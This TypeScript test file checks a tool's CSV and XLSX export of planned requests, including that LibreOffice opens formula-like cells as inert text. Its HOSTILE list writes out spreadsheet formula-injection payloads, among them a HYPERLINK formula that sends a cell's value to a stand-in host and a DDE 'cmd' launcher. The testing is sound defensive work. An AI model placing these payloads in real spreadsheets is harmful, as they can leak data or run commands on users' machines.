import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { beforeAll, describe, expect, test } from "vitest";
import { type RequestSheet, requestsCsv, requestsXlsx } from "../../lib/outside/sheets.ts";
import type { Plan } from "../../lib/plan/schema.ts";
import { rulebook } from "../../lib/rulebook/rulebook.ts";
import { scratch } from "../cli/cli.ts";
import { VISITS } from "../golden/golden.ts";
import { planned, referencesIn, visitText } from "../letter/letters.ts";
import { AS_CSV, frozenRowsOf, type OfficeSheet, openedByOffice } from "./spreadsheets.ts";

const HEAD = ["Reference", "What", "Kind", "Who acts", "Confirm by", "For tests", "If refused", "State"];
const NO_STATES: ReadonlyMap<string, string> = new Map();

const planOf = async (name: string): Promise<Plan> => (await planned(visitText(name))).plan;

/** CSV as an independent reader finds it; it is strict about quotes and numbers of cells. */
const rowsIn = (csv: string): readonly (readonly string[])[] => parse(csv, { bom: true }) as string[][];

const csvOf = (plan: Plan, states = NO_STATES): readonly (readonly string[])[] => rowsIn(requestsCsv({ plan, rulebook, states }));

/** Cells that somebody wrote who wants the reader's machine to work out something, and some that are only hard to write. */
const HOSTILE = [
  '=HYPERLINK("http://x.example/?"&A1,"press")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,2)",
  "\t=1+1",
  "\r=1+1",
  '"=1+1"',
  'Żółć; αβγ, "quoted"',
  "two\nlines",
  "two\n=1+1",
  "two\r=1+1",
  "two\r\n=1+1",
  " space before",
  "0012",
  "<b>&amp;</b>",
  "'apostrophe",
];

/** A plan whose requests and states begin with what a spreadsheet program takes for a formula. */
const hostile = async (): Promise<RequestSheet> => {
  const plan = await planOf("mixed-channels");
  const requests = plan.requests.slice(0, HOSTILE.length).map((request, place) => ({ ...request, text: HOSTILE[place] ?? "" }));
  return { plan: { ...plan, requests }, rulebook, states: new Map(requests.map(({ ref }, place) => [ref, HOSTILE[place] ?? ""])) };
};

const defused = (cell: string): string => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell);

describe.each(VISITS)("the requests of %s", (name) => {
  test("are one row each, in the order of the plan, with kind, who acts, by when and for which tests", async () => {
    const plan = await planOf(name);
    const [head, ...rows] = csvOf(plan, new Map(plan.requests.map(({ ref }) => [ref, `state of ${ref}`])));
    expect(head).toEqual(HEAD);
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.map(([ref, , kind, actor, day, , , state]) => [ref, kind?.toLowerCase(), actor?.toLowerCase(), day, state])).toEqual(
      plan.requests.map(({ ref, kind, actor, confirmBy }) => [ref, kind, actor, confirmBy, `state of ${ref}`]),
    );
    for (const [place, request] of plan.requests.entries()) {
      const [, what = "", , , , tests = ""] = rows[place] ?? [];
      expect(what.toLowerCase()).toContain(request.text.toLowerCase());
      expect(what.includes("Late")).toBe(request.late === true);
      const wanted = request.neededBy.length > 0 ? request.neededBy : (request.laterFor ?? []);
      expect([...referencesIn(tests)].sort()).toEqual([...new Set(wanted)].sort());
      expect(tests.includes("later ways only")).toBe(request.neededBy.length === 0 && wanted.length > 0);
    }
  });

  test("tell with the names of the methods what is done where one is refused", async () => {
    const plan = await planOf(name);
    const [, ...rows] = csvOf(plan);
    for (const [place, { ifRefused, answers }] of plan.requests.entries()) {
      const cell = rows[place]?.[6] ?? "";
      if (answers !== undefined) expect([...referencesIn(cell)].sort()).toEqual([...new Set(answers)].sort());
      else if (ifRefused.length === 0) expect(cell).toBe("");
      for (const { protection, to, unproven } of ifRefused) {
        const line = cell.split("\n").find((one) => referencesIn(one.split(":")[0] ?? "").has(protection)) ?? "";
        const kind = plan.sets.flatMap(({ protections }) => protections).find(({ ref }) => ref === protection)?.kind;
        const methods = rulebook.protections.find((one) => one.kind === kind)?.methods.filter(({ id }) => to.includes(id)) ?? [];
        expect(methods.length).toBe(to.length);
        for (const method of methods) expect(line).toContain(method.name);
        if (to.length > 0) expect(line.includes("open)")).toBe(unproven.length > 0);
        else expect(line).toMatch(/nothing acceptable is left|does not apply/);
      }
    }
  });
});

/** What of a CSV file stands outside quotes, without the ends of its rows: a line break left there would begin a row for some program. */
const bare = (csv: string): string => csv.replaceAll(/"(?:[^"]|"")*"/g, "").replaceAll("\r\n", "");

describe("the CSV file", () => {
  test("begins with the mark of UTF-8 and ends every row with CRLF", async () => {
    const csv = requestsCsv({ plan: await planOf("modern-electronic"), rulebook, states: NO_STATES });
    expect([...Buffer.from(csv, "utf8").subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(bare(csv)).not.toMatch(/[\r\n]/);
  });

  test("holds any words of a state, and no cell begins as a formula", async () => {
    const plan = await planOf("almost-nothing-known");
    const [first] = plan.requests;
    if (first === undefined) throw new Error("no request");
    const words = fc.array(fc.constantFrom(..."=+-@\t\r\n\"',;aŻ1 "), { maxLength: 12 }).map((signs) => signs.join(""));
    fc.assert(
      fc.property(words, (state) => {
        const csv = requestsCsv({ plan: { ...plan, requests: [first] }, rulebook, states: new Map([[first.ref, state]]) });
        const cell = rowsIn(csv)[1]?.[7];
        expect(bare(csv)).not.toMatch(/[\r\n]/);
        expect(cell).toBe(defused(state));
        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { seed: 6, numRuns: 1_000 },
    );
  });

  test("is the same each time", async () => {
    const plan = await planOf("mixed-channels");
    const sheet = { plan, rulebook, states: NO_STATES };
    expect(requestsCsv(sheet)).toBe(requestsCsv(sheet));
  });
});

describe("opened by LibreOffice", () => {
  const NONE: OfficeSheet = { rows: [], widths: [] };
  const opened = new Map<string, { readonly book: OfficeSheet; readonly text: OfficeSheet }>();
  const sheets = new Map<string, RequestSheet>();

  beforeAll(async () => {
    const folder = scratch();
    for (const name of VISITS) {
      const plan = await planOf(name);
      sheets.set(name, { plan, rulebook, states: new Map(plan.requests.map(({ ref }) => [ref, `state of ${ref}`])) });
    }
    sheets.set("hostile", await hostile());
    const names = [...sheets.keys()];
    const [books, texts] = ["xlsx", "csv"].map((ending) => names.map((name) => join(folder, `${name}.${ending}`))) as [string[], string[]];
    for (const [place, sheet] of [...sheets.values()].entries()) {
      writeFileSync(books[place] ?? "", await requestsXlsx(sheet));
      writeFileSync(texts[place] ?? "", requestsCsv(sheet));
    }
    const [asBooks, asTexts] = [openedByOffice(books), openedByOffice(texts, AS_CSV)];
    for (const [place, name] of names.entries()) opened.set(name, { book: asBooks[place] ?? NONE, text: asTexts[place] ?? NONE });
  });

  const openedOf = (name: string) => opened.get(name) ?? { book: NONE, text: NONE };

  const plainRows = (sheet: OfficeSheet) =>
    sheet.rows.map((row) => row.slice(0, HEAD.length).map(({ value }) => value.replaceAll(/\r\n?/g, "\n")));

  test.each(VISITS)("the workbook of %s has the values of the CSV file, days as days and all else as text", (name) => {
    const sheet = sheets.get(name);
    if (sheet === undefined) throw new Error(name);
    const { book } = openedOf(name);
    expect(plainRows(book)).toEqual(rowsIn(requestsCsv(sheet)));
    const [head = [], ...rows] = book.rows;
    expect(rows.length).toBe(sheet.plan.requests.length);
    expect(head.slice(0, HEAD.length).every(({ bold }) => bold)).toBe(true);
    for (const row of rows) {
      const cells = row.slice(0, HEAD.length);
      expect(cells.filter(({ value }) => value !== "").map(({ type }) => type)).toEqual(
        cells.flatMap(({ value }, column) => (value === "" ? [] : column === 4 ? ["date"] : ["string"])),
      );
      expect(cells.some(({ bold }) => bold)).toBe(false);
    }
    const [ref = 0, what = 0] = book.widths;
    expect(what).toBeGreaterThan(4 * ref);
    expect(ref).toBeGreaterThan(40);
  });

  test.each(VISITS)("the CSV file of %s has the same values and no formula", (name) => {
    const { book, text } = openedOf(name);
    expect(text.rows.length).toBeGreaterThan(1);
    expect(plainRows(text)).toEqual(plainRows(book));
    expect(text.rows.flat().filter(({ formula }) => formula !== null)).toEqual([]);
  });

  test("the head of the workbook stays in sight", async () => {
    const path = join(scratch(), "requests.xlsx");
    writeFileSync(path, await requestsXlsx(await hostile()));
    expect(frozenRowsOf(path)).toBe(1);
  });

  test("cells that begin like a formula are text in both", () => {
    const { book, text } = openedOf("hostile");
    for (const sheet of [book, text]) {
      expect(sheet.rows.length).toBe(HOSTILE.length + 1);
      expect(sheet.rows.flat().filter(({ formula }) => formula !== null)).toEqual([]);
    }
    const states = (sheet: OfficeSheet) => sheet.rows.slice(1).map((row) => row[7]?.value.replaceAll(/\r\n?/g, "\n"));
    expect(states(book)).toEqual(HOSTILE.map((cell) => cell.replaceAll(/\r\n?/g, "\n")));
    // The text file has the apostrophe in sight, and a program may take a number for one: it is no formula.
    expect(states(text)?.map((cell) => cell?.replace(/^12$/, "0012"))).toEqual(
      HOSTILE.map((cell) => defused(cell).replaceAll(/\r\n?/g, "\n")),
    );
  });
});
